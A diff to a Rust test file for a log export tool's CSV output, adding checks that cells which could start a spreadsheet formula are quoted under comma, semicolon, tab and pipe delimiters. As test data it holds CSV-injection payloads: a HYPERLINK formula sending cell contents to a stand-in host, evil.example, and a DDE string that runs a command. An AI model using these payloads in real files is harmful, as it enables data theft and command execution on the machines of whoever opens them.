@@ -54,13 +54,60 @@ fn csv_cells_are_quoted_and_neutralised() {
         csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click, here\"\")\","),
         "{csv}"
     );
-    assert!(csv.contains(",'@SUM(1+1)*cmd|' /C calc'!A0\r\n"), "{csv}");
+    assert!(
+        csv.contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"),
+        "{csv}"
+    );
     assert!(csv.contains(",\"'+1\nsecond line\","), "{csv}");
-    assert!(csv.ends_with(",'-2\r\n"), "{csv}");
+    assert!(csv.ends_with(",\"'-2\"\r\n"), "{csv}");
     assert!(
         csv.contains("\r\n2024-05-06T08:00:00.000Z,Security Verify,"),
         "{csv}"
     );
+}
+
+/// `x;=cmd` was written bare, so a spreadsheet splitting on `;` (comma-decimal locales) read a
+/// cell `=cmd` as a formula; a tab or `|` did the same for readers splitting on those.
+#[test]
+fn csv_cell_with_semicolon_or_tab_is_quoted() {
+    let dir = temp("delimiters");
+    let file = dir.join("delimiters.ndjson");
+    let record = serde_json::json!({
+        "geoip": {"country_iso_code": "x|=cmd", "ip": "198.51.100.32"},
+        "data": {"result": "success", "subtype": "x\t=cmd", "origin": "198.51.100.32", "username": "x;=cmd"},
+        "event_type": "authentication",
+        "id": "d-1",
+        "time": 1714982400000u64,
+    });
+    std::fs::write(&file, format!("{record}\n")).unwrap();
+    let csv = stdout(&["export", "--csv", path(&file)]);
+    std::fs::remove_dir_all(&dir).unwrap();
+    let row = csv.split("\r\n").nth(1).expect("one row");
+    for cell in ["\"x;=cmd\"", "\"x\t=cmd\"", "\"x|=cmd\""] {
+        assert!(
+            row.contains(&format!(",{cell},")) || row.ends_with(&format!(",{cell}")),
+            "{cell} in {row}"
+        );
+    }
+    // No cell of any delimiter's split starts a formula outside quotes.
+    for delimiter in [';', '\t', '|'] {
+        let mut quoted = false;
+        let mut starts = vec![0];
+        for (i, c) in row.char_indices() {
+            match c {
+                '"' => quoted = !quoted,
+                c if (c == delimiter || c == ',') && !quoted => starts.push(i + 1),
+                _ => {}
+            }
+        }
+        for s in starts {
+            assert!(
+                !row[s..].starts_with(['=', '+', '-', '@']),
+                "{delimiter:?}: a cell {:?}",
+                &row[s..]
+            );
+        }
+    }
 }
 
 #[test]
